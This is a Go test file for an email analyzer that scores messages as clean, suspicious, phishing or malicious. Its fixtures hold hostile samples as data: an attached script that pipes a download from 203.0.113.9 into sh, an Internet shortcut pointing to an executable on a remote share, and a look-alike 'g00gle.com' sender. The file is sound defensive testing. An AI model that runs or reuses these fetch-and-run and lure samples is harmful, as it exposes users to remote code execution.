package mail

import (
	"context"
	"strings"
	"testing"
)

// TestPrecision checks the false alarms the issue lists: a weak
// resemblance, an attachment type alone or one weak check alone is at most
// suspicious, while the attacks that look the same are still caught.
func TestPrecision(t *testing.T) {
	a := testAnalyzer(t, Options{})
	tests := []struct {
		name string
		m    tmsg
		want Verdict // the verdict expected
		max  bool    // want is the most it may be (false: exactly)
	}{
		{name: "a sender at mail.com is not gmail.com",
			m:    tmsg{from: "Jan Novak <jan.novak@mail.com>", subject: "Leaflets for Saturday", text: "Hello, I can hand out leaflets on Saturday morning at the market. Jan"},
			want: Clean},
		{name: "a conference's youtube sub-domain is not youtube.com",
			m:   tmsg{from: "Program committee <pc@fosdem.org>", subject: "Talk recordings", text: "The recordings of the talks are online at https://youtube.fosdem.org/2026/ and on the schedule page https://fosdem.org/2026/schedule/."},
			max: true, want: Suspicious},
		{name: "Microsoft's own SharePoint sender",
			m: tmsg{from: "SharePoint Online <no-reply@sharepointonline.com>", subject: "Claire shared \"Budget 2026\" with you",
				headers: []string{"Authentication-Results: mx.en-marche.fr; spf=pass smtp.mailfrom=sharepointonline.com; dkim=pass header.d=sharepointonline.com; dmarc=pass header.from=sharepointonline.com"},
				html:    `<p>Claire Dubois shared a file with you</p><p><a href="https://enmarche.sharepoint.com/:x:/s/finance/EaBc123?e=4Xyz">Budget 2026.xlsx</a></p><p>Microsoft respects your privacy.</p>`},
			max: true, want: Suspicious},
		{name: "a shell script sent to a developers' list",
			m: tmsg{from: "Dev <dev@example.org>", subject: "[PATCH] build helper", text: "Here is the helper script I use to build the docs.",
				atts: []tatt{{name: "build-docs.sh", ctype: "application/x-sh", data: []byte("#!/bin/sh\nset -e\nmake -C docs html\necho done\n")}}},
			max: true, want: Suspicious},
		{name: "a shell script that fetches and runs a program",
			m: tmsg{from: "Dev <dev@example.org>", subject: "install", text: "Run the attached installer.",
				atts: []tatt{{name: "install.sh", ctype: "application/x-sh", data: []byte("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")}}},
			want: Malicious},
		{name: "an Internet shortcut to a web page",
			m: tmsg{from: "Alice <alice@example.org>", subject: "the site", text: "Shortcut to our wiki attached.",
				atts: []tatt{{name: "Wiki.url", data: []byte("[InternetShortcut]\r\nURL=https://wiki.example.org/\r\n")}}},
			max: true, want: Suspicious},
		{name: "an Internet shortcut to a network share",
			m: tmsg{from: "Alice <alice@example.org>", subject: "the invoice", text: "Invoice attached.",
				atts: []tatt{{name: "Invoice.url", data: []byte("[InternetShortcut]\r\nURL=file://\\\\198.51.100.7\\share\\invoice.exe\r\n")}}},
			want: Malicious},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := a.Analyze(context.Background(), tc.name, tc.m.bytes(), nil)
			if tc.max && rank(r.Verdict) > rank(tc.want) || !tc.max && r.Verdict != tc.want {
				t.Errorf("verdict %s (score %.1f), want %s%s; reasons:\n%s", r.Verdict, r.Score, map[bool]string{true: "at most "}[tc.max], tc.want, dumpReasons(r))
			}
		})
	}
}

// TestOneWeakCheck: one reason that is not strong cannot make a message
// phishing, however many points it carries; a strong one can.
func TestOneWeakCheck(t *testing.T) {
	weak := &Result{Reasons: []Reason{{Check: "link-mismatch", Score: 5}, {Check: "urgency", Score: 0.5}}}
	weak.finish("")
	if weak.Verdict != Suspicious || weak.Score >= PhishingScore {
		t.Errorf("one weak check: %s %.1f, want suspicious under %.0f", weak.Verdict, weak.Score, PhishingScore)
	}
	two := &Result{Reasons: []Reason{{Check: "link-mismatch", Score: 3.5}, {Check: "credential-wording", Score: 2}}}
	two.finish("")
	if two.Verdict != Phishing {
		t.Errorf("two checks: %s, want phishing", two.Verdict)
	}
	strong := &Result{Reasons: []Reason{{Check: "lookalike-from", Score: 6.5, Strong: true}}}
	strong.finish("")
	if strong.Verdict != Phishing {
		t.Errorf("a strong check: %s, want phishing", strong.Verdict)
	}
}

// TestWeakLookalikeNeedsCompany: a look-alike the detector is not sure of
// counts only beside other signs; a confident one is enough.
func TestWeakLookalikeNeedsCompany(t *testing.T) {
	a := testAnalyzer(t, Options{})
	r := a.Analyze(context.Background(), "confident", tmsg{from: "Google <no-reply@g00gle.com>", subject: "Hello", text: "Hello."}.bytes(), nil)
	if rank(r.Verdict) < rank(Phishing) || !r.has("lookalike-from") {
		t.Errorf("g00gle.com: %s, want phishing with lookalike-from;\n%s", r.Verdict, dumpReasons(r))
	}
	for _, x := range r.Reasons {
		if x.Check == "lookalike-from" && !strings.Contains(x.Text, "imitates") {
			t.Errorf("confident look-alike reads %q", x.Text)
		}
	}
}
